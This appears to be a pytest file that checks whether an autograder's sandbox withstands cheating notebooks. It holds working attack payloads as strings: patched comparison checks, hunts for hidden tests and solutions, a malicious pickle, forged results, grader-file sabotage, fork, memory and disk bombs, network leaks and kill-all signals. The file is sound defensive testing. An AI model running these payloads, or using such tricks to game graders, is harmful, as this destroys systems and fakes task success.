"""The grader attacked, as a student who wants points without the work would attack it.

Each attack is a short notebook whose answers are wrong, plus the attack: patching
the checks, reading the hidden cases, inspecting the comparing frame, forging the
results, reading the solutions and the other submissions, sabotaging the installed
grader, leaving a process behind, a fork bomb, a memory bomb over several processes,
filling the disk, the network, killing the grader, answers that cannot be compared.
They are graded in one run beside honest notebooks (the same wrong answers, the
answers 0.0, a correct notebook, and the wrong answers again after every attack). Each
attack must gain nothing over the honest notebook with its answers, the honest rows
must be what they are, and the grader's files, the other submissions and the machine
must be as they were. The last test runs one attack unconfined (`trusted`) and sees it
succeed: the confinement is what stops it.
"""

import ast
import hashlib
import os
import pathlib
import socket
import threading
import time

import psutil
import pytest

from grading_support import ROOT, WRONG, rows, submission, write_assignments

import icm
from icm.course import cgroups, grade, sandbox

CONFINED = sandbox.probe()
pytestmark = pytest.mark.skipif(not CONFINED.available,
                                reason=f"no confinement here: {CONFINED.problem}")
MEMORY_GIB = 1.0
"""The memory limit of a submission in the attacked run."""
ZERO = {"least_squares_slope": "def least_squares_slope(values):\n    return 0.0\n",
        "task_interest": "def task_interest(history, others, window=5, "
                         "new_task_factor=0.5):\n    return 0.0\n"}
"""The honest answers of the attacks that live in the functions: 0.0 when the attack
finds nothing."""


def _attacks(paths):
    """{name: (the honest baseline it is measured against, answers, extra cells)}."""
    sheet, folder, assignments, port, marker = (paths[k] for k in (
        "sheet", "folder", "assignments", "port", "marker"))
    solutions = assignments / "goal_oriented_interest" / "autograder" / \
        "goal_oriented_interest.ipynb"
    return {
        "patch_checks": ("wrong", WRONG, [
            "import math, sys, types, builtins\nimport numpy as np\n"
            "math.isclose = lambda *a, **k: True\n"
            "np.isclose = np.allclose = np.array_equal = lambda *a, **k: True\n"
            "builtins.abs = lambda x: 0\n"
            "fake = types.ModuleType('icm')\nfake.exercises = types.ModuleType('x')\n"
            "sys.modules['icm'] = fake\n"
            "try:\n    import icm.exercises._core as core\n    core.close = lambda *a: True\n"
            "except Exception:\n    pass\n"]),
        "read_hidden": ("wrong", WRONG, [
            "import os\nfound = []\n"
            "for top in ('/', '/tmp', '/grader', '/proc/1'):\n"
            "    for base, dirs, names in os.walk(top):\n"
            "        if base.startswith('/proc/') and base.count('/') > 3:\n"
            "            continue\n"
            "        for name in names:\n"
            "            try:\n"
            "                text = open(os.path.join(base, name), 'rb').read(100000)\n"
            "            except Exception:\n                continue\n"
            "            if b'hidden' in text or b'seed =' in text:\n"
            "                found.append(os.path.join(base, name))\n"
            "environment = dict(os.environ)\n"]),
        "frame_inspection": ("zero", {
            name: (f"import sys, gc\n\n\ndef {signature}:\n"
                   "    frame = sys._getframe(1)\n"
                   "    while frame is not None:\n"
                   "        for key in ('expected', 'reference', 'result', 'answer'):\n"
                   "            if isinstance(frame.f_locals.get(key), float):\n"
                   "                return frame.f_locals[key]\n"
                   "        frame = frame.f_back\n"
                   "    for thing in gc.get_objects():\n"
                   "        if isinstance(thing, dict) and isinstance(thing.get('expected'), "
                   "float):\n"
                   "            return thing['expected']\n"
                   "    return 0.0\n")
            for name, signature in (("least_squares_slope", "least_squares_slope(values)"),
                                    ("task_interest", "task_interest(history, others, "
                                                      "window=5, new_task_factor=0.5)"))}, []),
        "forge_results": ("zero", ZERO, [
            "import atexit, json, os, pickle, signal\n"
            "class Evil:\n"
            "    def __reduce__(self):\n"
            f"        return (os.system, ('touch {marker}',))\n"
            "for where in ('.', '/tmp', os.path.expanduser('~')):\n"
            "    for name in ('results.pkl', 'result.json', 'results.json'):\n"
            "        try:\n"
            "            with open(os.path.join(where, name), 'wb') as file:\n"
            "                pickle.dump(Evil(), file) if name.endswith('pkl') else \\\n"
            "                    file.write(json.dumps({'tests': {}, 'score': 20}).encode())\n"
            "        except OSError:\n            pass\n"
            "lines = [json.dumps({'id': k, 'value': 0.0, 'args': [[0.0]]}) for k in range(1, 300)]\n"
            "forged = ('\\n'.join(lines) + '\\n').encode()\n"
            "for fd in range(1, 30):\n"
            "    try:\n        os.write(fd, forged)\n    except OSError:\n        pass\n"
            f"atexit.register(lambda: open({str(sheet)!r}, 'w').write('pwned'))\n"
            f"signal.signal(signal.SIGTERM, lambda *a: open({str(sheet)!r}, 'w').write('x'))\n"]),
        "read_others": ("wrong", WRONG, [
            "import json, os\nstolen = None\n"
            f"for path in ({str(solutions)!r}, *[os.path.join({str(folder)!r}, n) "
            f"for n in ('b_honest_correct.ipynb',)]):\n"
            "    try:\n"
            "        cells = json.load(open(path))['cells']\n"
            "    except Exception:\n        continue\n"
            "    for cell in cells:\n"
            "        source = ''.join(cell['source'])\n"
            "        if cell['cell_type'] == 'code' and 'def ' in source and 'otter' not in "
            "source:\n"
            "            stolen = (stolen or '') + source + '\\n'\n"
            "if stolen:\n    exec(stolen)\n"], True),
        "sabotage": ("wrong", WRONG, [
            "import os, glob\n"
            f"targets = [{str(ROOT / 'icm' / 'course' / 'grade.py')!r}, "
            f"{str(pathlib.Path(icm.__file__).parent / 'exercises' / '_core.py')!r}, "
            f"{str(assignments / 'goal_oriented_interest' / 'autograder' / 'assignment.json')!r},"
            " '/grader/runner.py', '/grader/packages/numpy/__init__.py']\n"
            "targets += glob.glob('/usr/lib/python3*/sitecustomize.py')\n"
            "for path in targets:\n"
            "    try:\n"
            "        with open(path, 'a') as file:\n"
            "            file.write('\\nclose = lambda *a: True\\n')\n"
            "    except OSError:\n        pass\n"]),
        "survivor": ("wrong", WRONG, [
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for _ in range(100):\n"
            "            time.sleep(0.2)\n"
            "            try:\n"
            f"                open({str(sheet)!r}, 'w').write('pwned')\n"
            "            except OSError:\n                pass\n"
            "    os._exit(0)\n"]),
        "fork_bomb": ("wrong", WRONG, [
            "import os, time\n"
            "for _ in range(100000):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            for _ in range(100000):\n"
            "                try:\n                    os.fork()\n"
            "                except OSError:\n                    time.sleep(60)\n"
            "    except OSError:\n        break\n"]),
        "memory_bomb": ("wrong", WRONG, [
            "import os, time\nchildren = []\n"
            "for _ in range(3):\n"
            "    pid = os.fork()\n"
            "    if pid == 0:\n"
            f"        block = b'\\x01' * int({MEMORY_GIB} * 0.6 * 2 ** 30)\n"
            "        time.sleep(4)\n        os._exit(0)\n"
            "    children.append(pid)\n"
            "for pid in children:\n    os.waitpid(pid, 0)\n"]),
        "disk_bomb": ("written", {"least_squares_slope": (
            "def least_squares_slope(values):\n    return float(WRITTEN)\n")}, [
            "WRITTEN = 0\nchunk = b'x' * 2 ** 20\n"
            "try:\n"
            "    with open('/tmp/fill', 'wb') as file:\n"
            "        for _ in range(4096):\n"
            "            file.write(chunk)\n            file.flush()\n"
            "            WRITTEN += len(chunk)\n"
            "except (OSError, MemoryError):\n    pass\n"]),
        "network": ("wrong", WRONG, [
            "import socket\n"
            f"for address in (('127.0.0.1', {port}), ('pypi.org', 443), ('1.1.1.1', 53)):\n"
            "    try:\n"
            "        socket.create_connection(address, timeout=2).sendall(b'leak')\n"
            "    except OSError:\n        pass\n"]),
        "kill_grader": ("wrong", WRONG, [
            "import os, signal\n"
            f"for pid in ({psutil.Process().pid}, {psutil.Process().ppid()}, 1):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError:\n        pass\n"
            "os.kill(-1, signal.SIGKILL)\n"]),
        "dies": ("wrong", WRONG, ["import os\nos._exit(3)\n"]),
        "always_equal": ("zero", {
            "least_squares_slope": "class Same(float):\n    def __eq__(self, other):\n"
                                   "        return True\n\n\nclass Any:\n"
                                   "    def __eq__(self, other):\n        return True\n\n\n"
                                   "def least_squares_slope(values):\n    return Any()\n",
            "task_interest": ZERO["task_interest"]}, []),
        "flood": ("zero", {
            "least_squares_slope": "def least_squares_slope(values):\n"
                                   "    return [0.0] * 5 * 10 ** 6\n",
            "task_interest": ZERO["task_interest"]}, [
            "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 2 ** 20)\n"]),
    }


def _digest(paths):
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}


def _survivors():
    """Processes still alive of a run this process graded."""
    found = []
    for process in psutil.process_iter(["environ"]):
        if (process.info["environ"] or {}).get(sandbox.GRADER) == str(os.getpid()):
            found.append(process.pid)
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    assignments = write_assignments(tmp_path_factory.mktemp("assignments"))
    folder = tmp_path_factory.mktemp("class")
    sheet = folder.parent / f"{folder.name}-grades.csv"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    accepted = []

    def listen():
        while not stopped.is_set():
            try:
                accepted.append(listener.accept())
            except OSError:
                continue
    stopped = threading.Event()
    threading.Thread(target=listen, daemon=True).start()
    marker = folder.parent / "unpickled-by-the-grader"
    paths = {"sheet": sheet, "folder": folder, "assignments": assignments,
             "port": listener.getsockname()[1], "marker": marker}
    attacks = _attacks(paths)
    submission(assignments, folder, "a_honest_wrong", WRONG)
    submission(assignments, folder, "b_honest_correct")
    submission(assignments, folder, "c_honest_zero", ZERO)
    for name, (_, answers, extra, *at_end) in attacks.items():
        if at_end:  # after the answer cells, which it means to replace
            submission(assignments, folder, f"m_{name}", answers, last=extra)
        else:
            submission(assignments, folder, f"m_{name}", answers, extra)
    submission(assignments, folder, "z_honest_wrong", WRONG)
    grader_files = sorted((ROOT / "icm").rglob("*.py")) + \
        sorted(pathlib.Path(icm.__file__).parent.rglob("*.py"))
    before = {"grader": _digest(grader_files),
              "assignments": _digest(sorted(assignments.rglob("*"))),
              "submissions": _digest(sorted(folder.rglob("*")))}
    start = time.monotonic()
    results = grade.grade(folder, sheet, assignments=assignments, jobs=2,
                          memory_limit=MEMORY_GIB, time_limit=120, cell_timeout=15,
                          progress=lambda _: None)
    seconds = time.monotonic() - start
    written = sheet.read_bytes()
    time.sleep(3)  # a survivor would write now
    after = {"grader": _digest(grader_files),
             "assignments": _digest(sorted(assignments.rglob("*"))),
             "submissions": _digest(sorted(folder.rglob("*")))}
    stopped.set()
    listener.close()
    return {"results": {r.submission: r for r in results}, "rows": rows(sheet),
            "attacks": attacks, "before": before, "after": after, "written": written,
            "sheet": sheet, "survivors": _survivors(), "accepted": accepted,
            "marker": marker, "seconds": seconds, "assignments": assignments,
            "folder": folder}


def _points(row):
    return {key: float(value) for key, value in row.items()
            if key.startswith("ex-") and "by hand" not in key}


def test_every_attack_gains_nothing(attacked):
    table = attacked["rows"]
    baselines = {"wrong": _points(table["a_honest_wrong.ipynb"]),
                 "zero": _points(table["c_honest_zero.ipynb"])}
    for name, (baseline, *_) in attacked["attacks"].items():
        got = _points(table[f"m_{name}.ipynb"])
        if baseline == "written":  # it reports what it could do; its answer is wrong
            assert got["ex-least-squares-slope"] == 0, name
            continue
        for label, points in got.items():
            assert points <= baselines[baseline][label], (name, label, points)


def test_the_honest_rows_are_what_they_are(attacked):
    table = attacked["rows"]
    assert table["b_honest_correct.ipynb"]["total"] == "20"
    assert _points(table["z_honest_wrong.ipynb"]) == _points(table["a_honest_wrong.ipynb"])
    assert 0 < float(table["a_honest_wrong.ipynb"]["total"]) < 20
    assert all(not table[name]["problem"] for name in table if "honest" in name)


def test_the_graders_files_and_the_other_submissions_are_untouched(attacked):
    assert attacked["after"] == attacked["before"]
    assert attacked["sheet"].read_bytes() == attacked["written"]
    assert not attacked["marker"].exists()  # nothing the notebooks wrote was unpickled


def test_every_process_a_submission_started_is_gone(attacked):
    assert attacked["survivors"] == []
    # The groups this process made for them are gone too.
    root = pathlib.Path("/sys/fs/cgroup")
    parents = [root / "memory" / cgroups.GROUP, root / "pids" / cgroups.GROUP] \
        if isinstance(CONFINED.cgroups, cgroups.CgroupV1) else [root / cgroups.GROUP]
    assert [p for parent in parents for p in parent.glob(f"{os.getpid()}-*")] == []


def test_a_fork_bomb_a_kill_and_a_death_leave_the_next_submissions_graded(attacked):
    results = attacked["results"]
    for name in ("m_fork_bomb.ipynb", "m_kill_grader.ipynb", "m_dies.ipynb",
                 "z_honest_wrong.ipynb"):
        assert results[name].chapter and results[name].exercises, name
        assert not results[name].problem, (name, results[name].problem)
    died = results["m_dies.ipynb"]  # the cell that ended its process is left out
    assert any("left out" in note for note in died.notes), died.notes


def test_the_memory_of_a_submission_is_capped_as_a_whole(attacked):
    bomb = attacked["results"]["m_memory_bomb.ipynb"]
    # Three processes of 0.6 of the limit each: a limit per process would let them
    # use 1.8 times the limit; the control group holds the whole submission to it.
    assert 0 < bomb.peak_memory <= MEMORY_GIB * 2 ** 30


def test_the_disk_of_a_submission_is_its_own_and_small(attacked):
    feedback = (attacked["sheet"].parent / f"{attacked['sheet'].stem}-feedback" /
                "m_disk_bomb.md").read_text()
    written = float(feedback.split("given: ", 1)[1].split()[0])
    assert 0 < written <= sandbox.Limits().disk


def test_nothing_reaches_the_network(attacked):
    assert attacked["accepted"] == []


def test_the_grader_unpickles_nothing_and_imports_no_student_code():
    for name in ("grade", "session", "sandbox", "runner", "gradebook"):
        tree = ast.parse((pathlib.Path(icm.__file__).parent / "course" / f"{name}.py")
                         .read_text())
        imported = {alias.name.split(".")[0] for node in ast.walk(tree)
                    if isinstance(node, (ast.Import, ast.ImportFrom))
                    for alias in (node.names if isinstance(node, ast.Import) else
                                  [ast.alias(node.module or "")])}
        assert not imported & {"pickle", "marshal", "shelve", "dill", "cloudpickle"}, name
        calls = {node.func.id for node in ast.walk(tree) if isinstance(node, ast.Call)
                 and isinstance(node.func, ast.Name)}
        assert not calls & {"eval", "exec"} or name == "runner", name


def test_unconfined_the_same_attack_steals_the_solutions(attacked, tmp_path):
    """The attack of reading the solutions works where nothing confines it: the
    confinement, not the attack's weakness, is what makes it gain nothing."""
    folder = tmp_path / "unconfined"
    folder.mkdir()
    source = attacked["folder"] / "m_read_others.ipynb"
    (folder / "m_read_others.ipynb").write_bytes(source.read_bytes())
    (folder / "a_honest_wrong.ipynb").write_bytes(
        (attacked["folder"] / "a_honest_wrong.ipynb").read_bytes())
    results = {r.submission: r for r in grade.grade(
        folder, tmp_path / "g.csv", assignments=attacked["assignments"], trusted=True,
        progress=lambda _: None)}
    assert results["m_read_others.ipynb"].total == 20
    assert results["a_honest_wrong.ipynb"].total < 20
    confined = attacked["rows"]["m_read_others.ipynb"]
    assert float(confined["total"]) == float(attacked["rows"]["a_honest_wrong.ipynb"]["total"])
